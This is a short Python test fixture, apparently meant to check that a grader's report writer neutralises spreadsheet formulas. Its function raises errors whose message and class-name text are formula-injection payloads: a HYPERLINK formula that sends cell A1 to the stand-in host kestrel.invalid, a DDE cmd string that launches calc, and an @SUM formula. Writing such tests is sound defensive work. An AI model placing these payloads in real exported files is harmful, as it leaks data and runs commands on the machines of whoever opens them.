"""Writes what a spreadsheet takes for a formula.

Comes: RAISED
Held by: report
Control: none (a plain grader hands it on)
"""


def double(x):
    if isinstance(x, float):
        raise ValueError('=HYPERLINK("https://kestrel.invalid?"&A1;"open me")')
    raise type("=cmd|' /C calc'!A0", (ValueError,), {})("@SUM(1+1)*kestrel")
